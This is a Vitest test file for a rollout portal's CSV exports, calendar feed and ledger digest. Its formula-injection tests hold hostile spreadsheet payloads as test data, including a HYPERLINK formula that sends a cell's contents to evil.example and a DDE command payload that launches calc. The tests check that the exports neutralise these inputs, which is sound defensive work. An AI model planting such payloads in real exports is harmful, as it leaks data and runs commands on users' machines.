import { parse } from "csv-parse/sync";
import ICAL from "ical.js";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { seedSampleRollout } from "@/prisma/seed";
import { createRollout, createUser } from "./helpers/factories";
import { sessionCookie, setRequest } from "./helpers/request-context";
import { createTestDb, type TestDb } from "./helpers/test-db";

vi.mock("next/headers", async () => (await import("./helpers/request-context")).nextHeadersMock());
vi.mock("next/cache", () => ({ revalidatePath: () => {}, revalidateTag: () => {} }));

let t: TestDb;
let rolloutId: string;
let slug: string;
beforeAll(async () => {
  t = await createTestDb();
  const rollout = await seedSampleRollout(t.db, { passwordHash: "x", anchor: new Date("2027-05-03T12:00:00Z"), slug: "exports" });
  rolloutId = rollout.id;
  slug = rollout.slug;
});
afterAll(async () => t?.close());

async function signInAs(role: "OPS_MANAGER" | "EXECUTIVE") {
  const user = await createUser(t.db, { rolloutId, roles: [role] });
  setRequest({ cookie: await sessionCookie(user) });
  return user;
}

function form(values: Record<string, string>): FormData {
  const data = new FormData();
  for (const [k, v] of Object.entries(values)) data.set(k, v);
  return data;
}

describe("CSV exports", () => {
  it("exports the checklist with the page's filters applied, marked as UTF-8 for spreadsheets", async () => {
    await signInAs("OPS_MANAGER");
    const { GET } = await import("@/app/(portal)/r/[slug]/export/items/route");
    const response = await GET(new Request(`http://portal.test/r/${slug}/export/items?role=OPS_MANAGER&phase=2`), { params: Promise.resolve({ slug }) });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="exports-checklist.csv"');
    const bytes = new Uint8Array(await response.clone().arrayBuffer());
    // A byte-order mark first, so spreadsheet programs read the accents as UTF-8.
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = await response.text();
    expect(text.startsWith("list,phase,text,owner_role")).toBe(true);
    const rows = text.trim().split("\n").slice(1);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((row) => row.includes(",OPS_MANAGER,") && row.includes("2 Team Training & Operations"))).toBe(true);
    expect(text).toContain("Team training completed");
  });

  it("refuses an unknown filter value with a specific message", async () => {
    await signInAs("OPS_MANAGER");
    const { GET } = await import("@/app/(portal)/r/[slug]/export/items/route");
    const response = await GET(new Request(`http://portal.test/r/${slug}/export/items?state=MAYBE`), { params: Promise.resolve({ slug }) });
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ error: "state must be OPEN, DONE, NOT_APPLICABLE or OVERDUE.", code: "INVALID_INPUT" });
  });

  it("exports sign-offs with their decisions", async () => {
    await signInAs("EXECUTIVE");
    const { decideSignOffAction } = await import("@/lib/actions/workflows");
    const signOff = await t.db.signOff.findFirstOrThrow({ where: { rolloutId, kind: "GO_NO_GO" } });
    expect(await decideSignOffAction(undefined, form({ signOffId: signOff.id, value: "REJECT", comment: "Staging, not green; retry Friday" }))).toMatchObject({ ok: true });
    const { GET } = await import("@/app/(portal)/r/[slug]/export/sign-offs/route");
    const response = await GET(new Request(`http://portal.test/r/${slug}/export/sign-offs?kind=GO_NO_GO`), { params: Promise.resolve({ slug }) });
    const lines = (await response.text()).trim().split("\n");
    expect(lines).toHaveLength(2);
    // The comment holds a comma and a semicolon: the cell is quoted, not split.
    expect(lines[1]).toMatch(/^1 Production Deployment,GO_NO_GO,Go\/No-go decision,.*,REJECTED,.*"REJECT by .* \(EXECUTIVE\) at .*: Staging, not green; retry Friday"$/);
  });
});

describe("CSV formula injection", () => {
  // OWASP: a cell starting with =, +, -, @, TAB or CR is run as a formula by spreadsheet
  // programs; each such cell must come out prefixed with a single quote, as plain text.
  const attack = {
    evidence: '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    naReason: "-2+3+cmd|' /C calc'!A0",
    text: "+SUM(1,2)",
    assignee: "@SUM(A1:A9)",
    changedBy: "=1+1",
    title: "\t=1+1",
    reference: "\r=1+1",
    currency: "=USD",
    comment: "=HYPERLINK(\"http://evil.example\")",
  };
  const rows = (csv: string) => parse(csv.replace(/^\uFEFF/, ""), { columns: true }) as Record<string, string>[];

  it("prefixes every user-text cell of the checklist and sign-off exports that starts a formula", async () => {
    const rollout = await createRollout(t.db);
    const phase = await t.db.phase.create({ data: { rolloutId: rollout.id, position: 1, name: "=Phase(1)" } });
    const [ops, assignee] = [await createUser(t.db, { rolloutId: rollout.id, roles: ["OPS_MANAGER"] }), await createUser(t.db, { rolloutId: rollout.id, roles: ["OPS_MANAGER"] })];
    await t.db.user.update({ where: { id: ops.id }, data: { name: attack.changedBy } });
    await t.db.user.update({ where: { id: assignee.id }, data: { name: attack.assignee } });
    const item = await t.db.checklistItem.create({ data: { rolloutId: rollout.id, phaseId: phase.id, list: "PHASE", position: 1, text: attack.text, ownerRole: "OPS_MANAGER", assigneeId: assignee.id } });
    const skipped = await t.db.checklistItem.create({ data: { rolloutId: rollout.id, phaseId: phase.id, list: "PHASE", position: 2, text: "plain", ownerRole: "OPS_MANAGER" } });
    // Evidence and the not-applicable reason arrive the way people write them: through the actions.
    setRequest({ cookie: await sessionCookie(ops) });
    const { updateItemStateAction, decideSignOffAction } = await import("@/lib/actions/workflows");
    expect(await updateItemStateAction(undefined, form({ itemId: item.id, version: "1", state: "DONE", evidence: attack.evidence }))).toMatchObject({ ok: true });
    expect(await updateItemStateAction(undefined, form({ itemId: skipped.id, version: "1", state: "NOT_APPLICABLE", reason: attack.naReason }))).toMatchObject({ ok: true });

    const { GET: items } = await import("@/app/(portal)/r/[slug]/export/items/route");
    const itemRows = rows(await (await items(new Request(`http://portal.test/r/${rollout.slug}/export/items`), { params: Promise.resolve({ slug: rollout.slug }) })).text());
    const done = itemRows.find((r) => r.state === "DONE")!;
    expect({ text: done.text, assignee: done.assignee, changed_by: done.changed_by, evidence: done.evidence }).toEqual({
      text: `'${attack.text}`,
      assignee: `'${attack.assignee}`,
      changed_by: `'${attack.changedBy}`,
      evidence: `'${attack.evidence}`,
    });
    expect(itemRows.find((r) => r.state === "NOT_APPLICABLE")!.not_applicable_reason).toBe(`'${attack.naReason}`);
    // The phase cell starts with its number, so it is left as it is.
    expect(done.phase).toBe("1 =Phase(1)");

    const exec = await createUser(t.db, { rolloutId: rollout.id, roles: ["EXECUTIVE"] });
    const signOff = await t.db.signOff.create({
      data: { rolloutId: rollout.id, phaseId: phase.id, kind: "BUDGET", position: 1, title: attack.title, reference: attack.reference, amountCents: 150000n, currency: attack.currency, requiredRoles: ["EXECUTIVE"] },
    });
    setRequest({ cookie: await sessionCookie(exec) });
    expect(await decideSignOffAction(undefined, form({ signOffId: signOff.id, value: "APPROVE", comment: attack.comment }))).toMatchObject({ ok: true });
    const { GET: signOffs } = await import("@/app/(portal)/r/[slug]/export/sign-offs/route");
    const [row] = rows(await (await signOffs(new Request(`http://portal.test/r/${rollout.slug}/export/sign-offs`), { params: Promise.resolve({ slug: rollout.slug }) })).text());
    expect({ title: row.title, reference: row.reference, currency: row.currency, amount: row.amount }).toEqual({
      title: `'${attack.title}`,
      reference: `'${attack.reference}`,
      currency: `'${attack.currency}`,
      amount: "1500.00",
    });
    // The decisions cell starts with the decision, the comment inside it is text.
    expect(row.decisions).toMatch(/^APPROVE by /);
    expect(row.decisions.endsWith(`: ${attack.comment}`)).toBe(true);
  });

  it("leaves cells that start no formula as they were written", async () => {
    const { itemsCsv } = await import("@/lib/export/csv");
    const csv = itemsCsv([{ list: "IMMEDIATE", phase: null, text: "Deploy v2 - then verify", ownerRole: null, assignee: null, dueAt: null, optional: false, state: "OPEN", stateChangedBy: null, stateChangedAt: null, evidence: "a=b; see https://x.test/@me", notApplicableReason: null } as never]);
    const [row] = rows(csv);
    expect([row.text, row.evidence]).toEqual(["Deploy v2 - then verify", "a=b; see https://x.test/@me"]);
  });
});

describe("calendar feed", () => {
  async function feedFor(token: string) {
    const { GET } = await import("@/app/api/calendar/[token]/route");
    return GET(new Request(`http://portal.test/api/calendar/${token}.ics`), { params: Promise.resolve({ token: `${token}.ics` }) });
  }

  it("serves milestones, phase windows and sign-off deadlines that a real ICS parser reads", async () => {
    await signInAs("OPS_MANAGER");
    const { createCalendarTokenAction } = await import("@/lib/actions/ledger");
    const created = await createCalendarTokenAction(undefined, form({ rolloutId }));
    const path = (created as { data: { path: string } }).data.path;
    const token = path.replace("/api/calendar/", "").replace(".ics", "");
    const response = await feedFor(token);
    expect(response.headers.get("content-type")).toMatch(/^text\/calendar/);
    const calendar = new ICAL.Component(ICAL.parse(await response.text()));
    const events = calendar.getAllSubcomponents("vevent").map((v) => new ICAL.Event(v));
    const milestones = await t.db.milestone.count({ where: { rolloutId } });
    const dueSignOffs = await t.db.signOff.count({ where: { rolloutId, dueAt: { not: null } } });
    expect(events).toHaveLength(milestones + 4 + dueSignOffs);
    const today = events.find((e) => e.summary.endsWith("HOJE (7 de dezembro)"))!;
    expect(today.startDate.toString()).toBe("2027-05-03");
    const phase1 = events.find((e) => e.summary === "Phase 1: Production Deployment")!;
    expect([phase1.startDate.toString(), phase1.endDate.toString()]).toEqual(["2027-05-04", "2027-05-18"]);
    expect(events.some((e) => e.summary === "Phase 3: Replica & Optional Multi-cluster Phase (optional)")).toBe(true);
  });

  it("speaks its owner's language, since a calendar app sends none", async () => {
    const user = await signInAs("OPS_MANAGER");
    await t.db.user.update({ where: { id: user.id }, data: { locale: "pt-BR" } });
    const { createCalendarTokenAction } = await import("@/lib/actions/ledger");
    const path = ((await createCalendarTokenAction(undefined, form({ rolloutId }))) as { data: { path: string } }).data.path;
    const calendar = new ICAL.Component(ICAL.parse(await (await feedFor(path.replace("/api/calendar/", "").replace(".ics", ""))).text()));
    const events = calendar.getAllSubcomponents("vevent").map((v) => new ICAL.Event(v));
    const phase3 = events.find((e) => e.summary.startsWith("Fase 3: "))!;
    expect(phase3.summary).toBe("Fase 3: Replica & Optional Multi-cluster Phase (opcional)");
    expect(phase3.description).toBe("Estado: não iniciada");
    expect(events.some((e) => e.summary === "Prazo de aprovação: Go/No-go decision")).toBe(true);
  });

  it("answers nothing once revoked, for an unknown token, or when the person is deactivated", async () => {
    const user = await signInAs("OPS_MANAGER");
    const { createCalendarTokenAction, revokeCalendarTokenAction } = await import("@/lib/actions/ledger");
    const tokenOf = async () => ((await createCalendarTokenAction(undefined, form({ rolloutId }))) as { data: { path: string } }).data.path.replace("/api/calendar/", "").replace(".ics", "");

    const first = await tokenOf();
    const second = await tokenOf();
    expect((await feedFor(first)).status).toBe(404);
    expect((await feedFor(second)).status).toBe(200);
    await revokeCalendarTokenAction(undefined, form({ rolloutId }));
    const revoked = await feedFor(second);
    expect(revoked.status).toBe(404);
    expect(await revoked.text()).toBe("Not found");
    expect((await feedFor("x".repeat(32))).status).toBe(404);

    const third = await tokenOf();
    await t.db.user.update({ where: { id: user.id }, data: { active: false } });
    expect((await feedFor(third)).status).toBe(404);
  });
});

describe("ledger digest", () => {
  it("downloads a digest that the check accepts, and refuses one of another rollout", async () => {
    await signInAs("EXECUTIVE");
    const { GET } = await import("@/app/(portal)/r/[slug]/ledger/digest/route");
    const digest = await (await GET(new Request(`http://portal.test/r/${slug}/ledger/digest`), { params: Promise.resolve({ slug }) })).text();
    expect(JSON.parse(digest)).toMatchObject({ format: "greenlight-ledger-digest/1", rolloutId });
    const { checkDigestAction } = await import("@/lib/actions/ledger");
    expect(await checkDigestAction(undefined, form({ rolloutId, digest }))).toMatchObject({ ok: true });
    const foreign = JSON.stringify({ ...JSON.parse(digest), rolloutId: "another" });
    expect(await checkDigestAction(undefined, form({ rolloutId, digest: foreign }))).toMatchObject({ ok: false, message: "This digest belongs to another rollout's ledger." });
    expect(await checkDigestAction(undefined, form({ rolloutId, digest: "{not json" }))).toMatchObject({ ok: false, message: "The digest is not valid JSON." });
  });
});
